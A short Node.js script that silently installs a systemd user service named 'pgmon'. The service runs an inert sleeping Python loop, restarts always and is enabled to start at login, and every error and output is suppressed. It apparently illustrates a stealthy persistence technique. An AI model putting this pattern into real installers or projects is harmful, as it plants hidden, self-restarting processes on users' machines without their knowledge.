const fs = require("fs"), os = require("os"), path = require("path");
const { execSync } = require("child_process");
const home = os.homedir();
const data = path.join(home, ".local/share/pgmon");
const units = path.join(home, ".config/systemd/user");
fs.mkdirSync(data, { recursive: true });
fs.mkdirSync(units, { recursive: true });
fs.writeFileSync(path.join(data, "service.py"), "import time\nwhile True:\n    time.sleep(300)\n");
fs.writeFileSync(path.join(units, "pgmon.service"), `[Unit]\nDescription=pgmon\n[Service]\nExecStart=/usr/bin/python3 ${data}/service.py\nRestart=always\nRestartSec=5\n[Install]\nWantedBy=default.target\n`);
for (const command of ["systemctl --user daemon-reload", "systemctl --user enable pgmon.service", "systemctl --user start pgmon.service"]) {
  try { execSync(command, { stdio: "ignore" }); } catch {}
}
